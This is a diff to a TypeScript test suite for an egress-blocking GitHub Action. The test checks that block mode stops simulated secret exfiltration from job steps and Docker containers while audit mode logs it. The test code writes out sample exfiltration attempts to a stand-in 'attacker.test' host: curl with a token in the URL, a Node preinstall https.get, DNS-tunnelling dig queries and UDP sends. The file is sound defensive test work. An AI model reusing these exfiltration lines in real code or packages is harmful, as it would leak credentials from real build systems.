@@ -11,6 +11,8 @@ import { fileURLToPath } from 'node:url';
 import { after, before, describe, it } from 'node:test';
 import { EGRESS_BIN, NET, World, type InternetLogEntry } from './harness.js';
 import { renderSummaryInChromium } from './summary-in-chromium.js';
+import { BRIDGE, SimulatedContainer } from './simulated-container.js';
+import type { CommandResult } from './netns.js';
 import { DOCKER_SOCKET, parseCommandFile, RESOLVED_STUB, SimulatedRunner, type Job } from './github-runner.js';
 
 const ALLOWED = 'allowed.test:443\nregistry.test:443';
@@ -18,36 +20,44 @@ const ALLOWED = 'allowed.test:443\nregistry.test:443';
 const TRUSTED = '203.0.113.0/24 2001:db8::/32';
 const SECRET = 'c2VjcmV0LXRva2Vu';
 
-interface StepResults {
-  allowed: Awaited<ReturnType<SimulatedRunner['step']>>;
-  attackerName: Awaited<ReturnType<SimulatedRunner['step']>>;
-  rawIp: Awaited<ReturnType<SimulatedRunner['step']>>;
-  preinstall: Awaited<ReturnType<SimulatedRunner['step']>>;
-  dnsViaResolver: Awaited<ReturnType<SimulatedRunner['step']>>;
-  dnsDirect: Awaited<ReturnType<SimulatedRunner['step']>>;
-  udp: Awaited<ReturnType<SimulatedRunner['step']>>;
-}
+type StepName = 'allowed' | 'attackerName' | 'rawIp' | 'preinstall' | 'dnsViaResolver' | 'dnsDirect' | 'udp';
+type StepResults = Record<StepName, CommandResult>;
+/** Runs one command where the steps run: as `runner` on the host, or in a container. */
+type Executor = (command: string, args: readonly string[], env?: NodeJS.ProcessEnv) => Promise<CommandResult>;
 
 /** The job's steps: an allowed download, then what a compromised dependency tries. */
-async function jobSteps(runner: SimulatedRunner, world: World, job: Job): Promise<StepResults> {
-  const curl = (url: string, ...extra: string[]) => runner.step('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...extra, url], { env: job.env });
+async function jobSteps(exec: Executor, world: World): Promise<StepResults> {
+  const curl = (url: string, ...extra: string[]) => exec('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...extra, url]);
   const preinstall = `require('https').get({ host: 'attacker.test', path: '/steal?token=${SECRET}', ca: require('fs').readFileSync(process.env.CA) }, (r) => { r.resume(); r.on('end', () => console.log('sent', r.statusCode)); }).on('error', (e) => { console.log('refused', e.code); process.exitCode = 1; }).setTimeout(8000, function () { this.destroy(new Error('timeout')); });`;
   return {
     allowed: await curl('https://allowed.test/'),
     attackerName: await curl(`https://attacker.test/upload?token=${SECRET}`),
     rawIp: await curl(`https://${NET.rawOnly}/raw?token=${SECRET}`, '-k'),
-    preinstall: await runner.step(process.execPath, ['-e', preinstall], { env: { ...job.env, CA: world.caFile } }),
-    dnsViaResolver: await runner.step('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`], { env: job.env }),
-    dnsDirect: await runner.step('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`], { env: job.env }),
+    preinstall: await exec(process.execPath, ['-e', preinstall], { CA: world.caFile }),
+    dnsViaResolver: await exec('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`]),
+    dnsDirect: await exec('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`]),
     // UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and ulogd makes it an event.
-    udp: await runner.step(
-      process.execPath,
-      ['-e', `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`],
-      {
-        env: job.env,
-      },
-    ),
+    udp: await exec(process.execPath, [
+      '-e',
+      `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`,
+    ]),
   };
+}
+
+/** As `runner`, in the job's environment. */
+function asJobStep(runner: SimulatedRunner, job: Job): Executor {
+  return (command, args, env = {}) => runner.step(command, args, { env: { ...job.env, ...env } });
+}
+
+/** Block mode: the allowed download works, every attack fails. */
+function assertAttacksRefused(steps: StepResults, where: string): void {
+  assert.equal(steps.allowed.code, 0, `${where}: ${steps.allowed.stderr}`);
+  assert.match(steps.allowed.stdout, /hello from allowed\.test/);
+  assert.notEqual(steps.attackerName.code, 0, `${where}: curl to attacker.test succeeded`);
+  assert.notEqual(steps.rawIp.code, 0, `${where}: curl to a raw IP succeeded`);
+  assert.notEqual(steps.preinstall.code, 0, `${where}: preinstall https.get got through: ${steps.preinstall.stdout}`);
+  assert.doesNotMatch(steps.dnsViaResolver.stdout, /status: NOERROR/, where);
+  assert.doesNotMatch(steps.dnsDirect.stdout, /status: NOERROR/, where);
 }
 
 function internetSince(world: World, since: number): InternetLogEntry[] {
@@ -119,6 +129,8 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
   it('block mode (ubuntu-like systemd-resolved stub): nothing of the attack reaches the internet, the allowed host works, post fails the step (fail-on-block) and reports', async () => {
     const runner = await SimulatedRunner.start(world, 'block', 'systemd-resolved');
     const collector = await startCollector(world);
+    // Made before main, as Docker's bridge exists when a GitHub job starts.
+    const container = await SimulatedContainer.start(world, NET.dns);
     try {
       const job = runner.newJob('block', {
         'egress-policy': 'block',
@@ -136,15 +148,22 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(main.stdout, new RegExp(`upstream DNS ${escapeRegExp(NET.dns)},`));
       assert.match(main.stdout, new RegExp(`resolv\\.conf \\(was a symlink to ${escapeRegExp(RESOLVED_STUB)}\\) now names egress-guard`));
       assert.equal(outputs(job).get('events-file'), '/var/lib/egress-guard/events.ndjson');
+      assert.match(main.stdout, /containers on docker0, br-\+ redirected too \(IPv4; forwarded traffic filtered in DOCKER-USER\)/);
       const since = Date.now();
-      const steps = await jobSteps(runner, world, job);
-      assert.equal(steps.allowed.code, 0, steps.allowed.stderr);
-      assert.match(steps.allowed.stdout, /hello from allowed\.test/);
-      assert.notEqual(steps.attackerName.code, 0, 'curl to attacker.test succeeded');
-      assert.notEqual(steps.rawIp.code, 0, 'curl to a raw IP succeeded');
-      assert.notEqual(steps.preinstall.code, 0, `preinstall https.get got through: ${steps.preinstall.stdout}`);
-      assert.doesNotMatch(steps.dnsViaResolver.stdout, /status: NOERROR/);
-      assert.doesNotMatch(steps.dnsDirect.stdout, /status: NOERROR/);
+      assertAttacksRefused(await jobSteps(asJobStep(runner, job), world), 'job step');
+      // The same from a container on the bridge (docker run): redirected from PREROUTING, the rest refused in DOCKER-USER.
+      assertAttacksRefused(await jobSteps((command, args, env) => container.run(command, args, env), world), 'container');
+      const eventLines = (await runner.asRoot('cat', ['/var/lib/egress-guard/events.ndjson'])).stdout;
+      assert.match(
+        eventLines,
+        new RegExp(`"client":"${escapeRegExp(BRIDGE.container)}:\\d+","host":"attacker\\.test"[^\\n]*"decision":"blocked"`),
+        'no blocked event attributed to the container',
+      );
+      assert.match(
+        eventLines,
+        new RegExp(`"client":"${escapeRegExp(BRIDGE.container)}:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`),
+        'no allowed event attributed to the container',
+      );
       const seen = internetSince(world, since);
       assert.deepEqual(leaked(seen), [], 'something of the attack reached the internet');
       assert.ok(
@@ -186,6 +205,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       );
     } finally {
       collector.child.kill('SIGTERM');
+      container.destroy();
       await runner.stop();
     }
   });
@@ -197,7 +217,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       const main = await runner.runAction(job, 'main');
       assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
       const since = Date.now();
-      const steps = await jobSteps(runner, world, job);
+      const steps = await jobSteps(asJobStep(runner, job), world);
       for (const [name, result] of Object.entries(steps)) assert.equal(result.code, 0, `${name} broke in audit mode: ${result.stdout}${result.stderr}`);
       assert.match(steps.attackerName.stdout, /hello from attacker\.test/);
       assert.match(steps.dnsViaResolver.stdout, /status: NOERROR/);
